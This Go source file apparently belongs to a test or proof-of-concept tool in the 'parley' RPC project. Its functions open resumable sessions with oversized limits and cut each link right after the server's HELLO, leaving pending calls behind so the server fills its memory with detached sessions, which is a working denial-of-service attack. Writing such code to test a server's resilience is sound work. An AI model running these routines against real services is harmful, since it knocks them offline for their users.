package main

import (
	"context"

	"github.com/parley-rpc/parley/internal/frame"
)

// mostKept bounds the memory of detached sessions with much to send. By default
// they keep at most 256 MiB, and the sessions themselves come on top. The
// garbage collector lets the heap grow to twice what is in use.
const mostKept = 768 << 20

// resumable asks the server to keep the session.
var resumable = frame.Hello{MaxStreams: 1 << 20, InitialWindow: 1 << 40, MaxMessage: 1 << 30, ResumeWindow: 30_000}

// flap makes a session and cuts its link as soon as the server has sent HELLO,
// so the server keeps the session.
func flap(ctx context.Context, addr string, n *tally) error {
	return cutAfterHello(ctx, addr, "", n)
}

// flapFull does the same with sessions whose calls go on sending responses.
func flapFull(ctx context.Context, addr string, n *tally) error {
	call := open(nil, 1, pour, nil)
	call = frame.Append(call, frame.Header{Type: frame.TypeData, Flags: frame.FlagEnd, Stream: 1}, nil)
	return cutAfterHello(ctx, addr, "", n, call)
}

// detach does the same as one principal, with sessions whose handlers wait for
// the rest of a message.
func detach(ctx context.Context, addr string, n *tally) error {
	const calls = 16
	first := make([][]byte, calls)
	for i := range first {
		id := uint64(2*i + 1)
		first[i] = open(nil, id, take, nil)
		first[i] = frame.Append(first[i], frame.Header{Type: frame.TypeData, Flags: frame.FlagMore, Stream: id}, zeroPiece)
	}
	return cutAfterHello(ctx, addr, "mallory", n, first...)
}

// cutAfterHello sends HELLO as a user, and messages. It cuts the link when the
// server has sent HELLO.
func cutAfterHello(ctx context.Context, addr, name string, n *tally, first ...[]byte) error {
	link, err := dial(ctx, addr, name)
	if err != nil {
		return err
	}
	defer link.Close(1006, "") //nolint:errcheck // that is the attack
	for _, msg := range append([][]byte{resumable.Append(nil)}, first...) {
		if err := link.WriteMessage([][]byte{msg}); err != nil {
			return err
		}
	}
	if _, err := link.NextReader(); err != nil {
		return err
	}
	n.units.Add(1)
	return nil
}
